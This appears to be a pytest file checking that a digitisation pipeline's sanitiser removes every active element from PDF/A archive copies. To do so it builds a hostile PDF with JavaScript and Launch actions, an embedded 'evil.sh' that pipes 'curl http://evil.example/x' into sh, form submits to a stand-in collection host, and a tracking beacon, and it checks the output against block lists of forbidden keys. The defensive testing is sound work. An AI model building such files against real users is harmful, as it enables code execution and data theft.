"""No active content survives into the PDF/A (issue 17, item 2).

A born-digital PDF whose pages carry text is kept rather than OCRed, so the
sender's file reaches the archive copy. The hostile file here carries every kind
of active content PDF/A-2b forbids, in every place it can hide: page-open and
document-level JavaScript, a JavaScript name tree, JavaScript and Launch links,
an attached ``evil.sh`` (annotation and name tree), form fields with scripts and
a submit button, XFA, outline items with scripts, and an appearance stream that
points back at the sender's catalog, so the whole catalog is dragged along with
the page. It goes through the real ``sohoa ocr`` CLI and the real pipeline (a
worker process, SQLite and a folder), and each output is checked with tools that
share no code with the sanitiser: poppler's ``pdfinfo`` and ``pdfdetach``, qpdf's
``--check``, and a walk over every object of the saved file.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from core.settings import Settings
from ocr.pdf import KeptPage, assemble_searchable_pdf
from ocr.sanitise import make_inert
from pipeline.runtime import Runtime
from storage import repository as repo
from testkit.pipeline_harness import Worker, run_cli, wait_for

KEPT_TEXT = "Giay xac nhan cu tru so 0042 cap cho ong Nguyen Van An"
SECOND_TEXT = "Trang hai: noi dung duoc giu nguyen khong OCR lai"
#: A filled form field: its printed appearance is part of what the page shows.
FIELD_VALUE = "Tran Thi Binh"
#: A field flagged hidden: never shown, so it must not appear in the copy either.
HIDDEN_VALUE = "Hidden secret value"
PAYLOAD = b"#!/bin/sh\ncurl http://evil.example/x | sh # evil payload\n"
ATTACHMENT = "evil.sh"

#: Keys that only active content uses; none may be anywhere in an output.
FORBIDDEN_KEYS = frozenset(
    {"/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/AA", "/XFA", "/AcroForm", "/Annots"}
)
#: Names that mark scripts, launches, attachments, forms and links.
FORBIDDEN_NAMES = frozenset(
    {
        "/JavaScript",
        "/Launch",
        "/EmbeddedFile",
        "/FileAttachment",
        "/SubmitForm",
        "/ResetForm",
        "/ImportData",
        "/Widget",
        "/Link",
        "/URI",
    }
)
#: Stream keys that take data from outside the file (external streams, reference XObjects).
EXTERNAL_KEYS = frozenset({"/F", "/FFilter", "/FDecodeParms", "/Ref"})
UNIT = "000.00.00.H26"


# ------------------------------------------------------------- the hostile file


def _script(pdf: pikepdf.Pdf, code: str) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def _appearance(pdf: pikepdf.Pdf, font: Dictionary, text: str, **extra: object) -> pikepdf.Stream:
    """A form XObject that writes ``text``: what a viewer shows and prints for the annotation."""
    stream = pdf.make_stream(f"BT /Helv 10 Tf 2 6 Td ({text}) Tj ET".encode("ascii"))
    stream.Type, stream.Subtype = Name.XObject, Name.Form
    stream.BBox = Array([0, 0, 228, 20])
    stream.Resources = Dictionary(Font=Dictionary(Helv=font))
    for key, value in extra.items():
        stream[f"/{key}"] = value
    return stream


def _text_page(pdf: pikepdf.Pdf, font: Dictionary, text: str) -> pikepdf.Page:
    page = pdf.add_blank_page(page_size=(612, 792))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = pdf.make_stream(f"BT /F1 14 Tf 72 740 Td ({text}) Tj ET".encode("ascii"))
    return page


def _annotation(subtype: Name, rect: list[int], **entries: object) -> Dictionary:
    """An annotation flagged "print" (4) unless ``entries`` says otherwise."""
    return Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array(rect), **{"F": 4, **entries})


def build_hostile_pdf(path: Path) -> Path:
    """Two text pages and a catalog full of everything PDF/A-2b forbids."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    first = _text_page(pdf, font, KEPT_TEXT)
    second = _text_page(pdf, font, SECOND_TEXT)
    outside = Dictionary(FS=Name.URL, F=String("http://evil.example/beacon"))
    pixel = pdf.make_stream(b"\x80", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    pixel.ColorSpace, pixel.BitsPerComponent, pixel.F = Name.DeviceGray, 8, outside
    imported = _appearance(pdf, font, "imported", Ref=Dictionary(F=outside, Page=0))
    first.obj.Resources.XObject = Dictionary(Beacon=pixel, Imported=imported)
    first.obj.AA = Dictionary(
        O=_script(pdf, "app.alert('page opened')"), C=_script(pdf, "app.alert('closed')")
    )

    embedded = pdf.make_stream(PAYLOAD)
    embedded.Type = Name.EmbeddedFile
    filespec = pdf.make_indirect(
        Dictionary(
            Type=Name.Filespec,
            F=String(ATTACHMENT),
            UF=String(ATTACHMENT),
            EF=Dictionary(F=embedded),
        )
    )
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("citizen"),
            V=String(FIELD_VALUE),
            DA=String("/Helv 10 Tf 0 g"),
            AA=Dictionary(
                K=_script(pdf, "event.rc = true; app.launchURL('http://evil.example');"),
                V=_script(pdf, "this.submitForm('http://evil.example/collect')"),
            ),
            Kids=Array([]),
        )
    )
    widget = pdf.make_indirect(
        _annotation(
            Name.Widget,
            [72, 600, 300, 620],
            P=first.obj,
            Parent=field,
            AP=Dictionary(N=_appearance(pdf, font, FIELD_VALUE)),
            AA=Dictionary(Fo=_script(pdf, "app.alert('focus')")),
        )
    )
    field.Kids.append(widget)
    submit = pdf.make_indirect(
        _annotation(
            Name.Widget,
            [72, 560, 300, 580],
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            P=first.obj,
            A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/collect")),
            AA=Dictionary(D=_script(pdf, "app.alert('pressed')")),
            AP=Dictionary(N=_appearance(pdf, font, "Send")),
        )
    )
    hidden = pdf.make_indirect(
        _annotation(
            Name.Widget,
            [72, 520, 300, 540],
            F=2 | 4,  # hidden, yet "printable": PDF/A forbids it, nothing shows it
            FT=Name.Tx,
            T=String("hidden"),
            P=first.obj,
            AP=Dictionary(N=_appearance(pdf, font, HIDDEN_VALUE)),
        )
    )
    first.obj.Annots = Array(
        [
            _annotation(Name.Link, [72, 736, 400, 756], A=_script(pdf, "app.alert('link')")),
            _annotation(
                Name.Link,
                [72, 700, 400, 716],
                A=Dictionary(
                    S=Name.Launch,
                    F=filespec,
                    Win=Dictionary(F=String("cmd.exe"), P=String("/c evil.sh")),
                ),
            ),
            _annotation(
                Name.Link,
                [72, 680, 400, 696],
                A=Dictionary(
                    S=Name.GoTo,
                    D=Array([second.obj, Name.Fit]),
                    Next=Array([_script(pdf, "app.alert('chained')")]),
                ),
            ),
            _annotation(
                Name.Link,
                [72, 660, 400, 676],
                A=Dictionary(S=Name.URI, URI=String("http://tracker.example/citizen")),
            ),
            _annotation(
                Name.FileAttachment,
                [420, 700, 440, 720],
                FS=filespec,
                Name=Name.Paperclip,
                Contents=String(ATTACHMENT),
                # An appearance that points at the sender's catalog: flattening the
                # annotation keeps this stream, and copying it drags the catalog in.
                AP=Dictionary(N=_appearance(pdf, font, "@", Origin=pdf.Root)),
            ),
            widget,
            submit,
            hidden,
        ]
    )
    second.obj.Annots = Array(
        [_annotation(Name.Link, [72, 736, 400, 756], Dest=Array([first.obj, Name.Fit]))]
    )

    pdf.Root.OpenAction = _script(pdf, f"this.exportDataObject({{cName: '{ATTACHMENT}'}})")
    pdf.Root.AA = Dictionary(WC=_script(pdf, "app.alert('closing')"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _script(pdf, "app.alert('init')")])),
        EmbeddedFiles=Dictionary(Names=Array([String(ATTACHMENT), filespec])),
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field, submit, hidden]),
        NeedAppearances=True,
        DR=Dictionary(Font=Dictionary(Helv=font)),
        XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>"),
    )
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    script_item = pdf.make_indirect(
        Dictionary(Title=String("Open"), Parent=outlines, A=_script(pdf, "app.alert('o')"))
    )
    launch_item = pdf.make_indirect(
        Dictionary(
            Title=String("Run"),
            Parent=outlines,
            Prev=script_item,
            A=Dictionary(S=Name.Launch, F=filespec),
        )
    )
    script_item.Next = launch_item
    outlines.First, outlines.Last = script_item, launch_item
    pdf.Root.Outlines = outlines
    pdf.save(path)
    return path


# ------------------------------------------------------------ independent checks


def _pdfinfo(path: Path) -> dict[str, str]:
    done = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True)
    return dict(line.split(":", 1) for line in done.stdout.splitlines() if ":" in line)


def _attachments(path: Path) -> str:
    done = subprocess.run(
        ["pdfdetach", "-list", str(path)], capture_output=True, text=True, check=True
    )
    return done.stdout.splitlines()[0]


def _walk(pdf: pikepdf.Pdf) -> Iterator[object]:
    """Every object of the file, and everything nested directly in each."""
    for root in pdf.objects:
        stack: list[object] = [root]
        while stack:
            obj = stack.pop()
            yield obj
            if isinstance(obj, pikepdf.Stream):
                children = list(obj.stream_dict.values())
            elif isinstance(obj, Dictionary):
                children = list(obj.values())
            elif isinstance(obj, Array):
                children = list(obj)
            else:
                continue
            stack.extend(c for c in children if not getattr(c, "is_indirect", False))


def active_content(path: Path) -> list[str]:
    """Every trace of active content in the saved file, described; empty when inert."""
    found = []
    javascript = _pdfinfo(path).get("JavaScript", "").strip()
    if javascript != "no":
        found.append(f"pdfinfo JavaScript: {javascript}")
    if _attachments(path) != "0 embedded files":
        found.append(f"pdfdetach: {_attachments(path)}")
    with pikepdf.open(path) as pdf:
        for obj in _walk(pdf):
            if isinstance(obj, pikepdf.Stream):
                keys = set(obj.stream_dict.keys())
                found.extend(f"stream key {key}" for key in (FORBIDDEN_KEYS | EXTERNAL_KEYS) & keys)
                if PAYLOAD in obj.read_bytes():
                    found.append(f"the payload in stream {obj.objgen}")
                continue
            if isinstance(obj, Name) and str(obj) in FORBIDDEN_NAMES:
                found.append(f"name {obj}")
            elif isinstance(obj, String) and ATTACHMENT in str(obj):
                found.append(f"string {obj}")
            elif isinstance(obj, Dictionary):
                found.extend(f"key {key}" for key in FORBIDDEN_KEYS.intersection(obj.keys()))
                action = obj.get("/OpenAction")
                if isinstance(action, Dictionary) and action.get("/S") != Name.GoTo:
                    found.append(f"/OpenAction {action.get('/S')}")
    return found


def assert_inert_archive_copy(path: Path) -> None:
    assert active_content(path) == []
    done = subprocess.run(["qpdf", "--check", str(path)], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    pages = text.split("\f")
    assert KEPT_TEXT in pages[0] and SECOND_TEXT in pages[1]
    assert FIELD_VALUE in pages[0], "the filled form field's value is part of the page"
    assert HIDDEN_VALUE not in text
    with pikepdf.open(path) as pdf:
        assert len(pdf.pages) == 2
        assert pdf.open_metadata().pdfa_status == "2B"
        assert "/OutputIntents" in pdf.Root


@pytest.fixture(scope="module")
def hostile_pdf(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = build_hostile_pdf(tmp_path_factory.mktemp("hostile") / "to-khai.pdf")
    # The checks are able to fail: on the sender's file they find all of it.
    found = active_content(path)
    assert "pdfinfo JavaScript: yes" in found
    assert "pdfdetach: 2 embedded files" in found  # the name tree's and the annotation's
    for trace in (
        "key /AA",
        "key /JS",
        "key /XFA",
        "name /Launch",
        "name /FileAttachment",
        "stream key /F",
        "stream key /Ref",
    ):
        assert trace in found
    return path


# ---------------------------------------------------------------------- tests


def test_assembled_copy_of_hostile_pages_is_inert(hostile_pdf: Path, tmp_path: Path) -> None:
    output = tmp_path / "out.pdf"
    assemble_searchable_pdf([KeptPage(hostile_pdf, 0), KeptPage(hostile_pdf, 1)], output)
    assert_inert_archive_copy(output)


def test_a_clean_page_loses_nothing(tmp_path: Path) -> None:
    """Only active parts go: a plain text page keeps every entry and every object."""
    source = tmp_path / "plain.pdf"
    with pikepdf.new() as pdf:
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page = _text_page(pdf, font, KEPT_TEXT)
        page.obj.CropBox = Array([0, 0, 600, 780])
        page.obj.Rotate = 90
        pdf.save(source)
    with pikepdf.open(source) as original, pikepdf.new() as copy:
        copy.pages.append(original.pages[0])
        before = repr(copy.pages[0].obj)
        assert make_inert(copy) == {}
        assert repr(copy.pages[0].obj) == before


def test_sohoa_ocr_writes_an_inert_copy(
    hostile_pdf: Path, tmp_path: Path, run_sohoa: Callable[..., subprocess.CompletedProcess[str]]
) -> None:
    output = tmp_path / "out.pdf"
    done = run_sohoa("ocr", hostile_pdf, output, "--jobs", 1)
    assert done.returncode == 0, done.stderr
    assert_inert_archive_copy(output)


def test_pipeline_writes_an_inert_copy(hostile_pdf: Path, tmp_path: Path) -> None:
    """The embedded setup (SQLite broker and database, a folder of objects), a real worker."""
    values = {"SOHOA_DATA_DIR": str(tmp_path / "data")}
    env = {k: v for k, v in os.environ.items() if not k.startswith("SOHOA_")} | values
    ingested = run_cli(
        env, "ingest", hostile_pdf, "--dossier", "H26.01-261005-0017", "--unit", UNIT
    )
    assert ingested.returncode == 0, ingested.stderr
    document_id = ingested.stdout.split("\t")[0].strip()
    rt = Runtime.from_settings(Settings(_env_file=None, data_dir=tmp_path / "data"))

    def finished() -> tuple[str, str | None, str, str] | None:
        with rt.session() as s:
            d = repo.get_document(s, document_id)
            state = (d.status, d.failure_reason, d.pdf_key, d.pdf_sha256)
        return state if state[0] in ("done", "failed") else None

    worker = Worker(env, tmp_path / "worker.log").start()
    try:
        status, reason, pdf_key, pdf_sha256 = wait_for(finished, 240, "the document to finish")
    finally:
        worker.stop()
    assert (status, reason) == ("done", None)
    output = tmp_path / "stored.pdf"
    output.write_bytes(rt.store.get_bytes(pdf_key, pdf_sha256))
    assert_inert_archive_copy(output)
